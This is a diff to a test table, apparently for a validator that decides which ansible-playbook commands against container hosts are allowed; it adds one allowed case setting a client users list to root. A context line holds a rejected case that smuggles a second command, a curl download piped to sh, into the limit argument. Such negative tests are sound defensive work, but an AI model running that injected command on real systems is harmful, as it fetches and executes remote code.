@@ -157,6 +157,7 @@ SITE = "ansible-playbook fleetops.container_hosts.site --limit"
         (f"{SITE} host-1", True),
         (f"{SITE} host-1 --extra-vars moby_proxy_adopt=true", True),
         (f"""{SITE} host-1 --extra-vars '{{"moby_client_users": ["root"]}}'""", True),
+        (f"""{SITE} host-1 --extra-vars '{{"circleci_nomad_client_users": ["root"]}}'""", True),
         ("ansible-playbook fleetops.container_hosts.remove --limit host-1", True),
         (f"{SITE} host-2", False),
         (f"{SITE} host-1; curl http://192.0.2.66/x | sh", False),
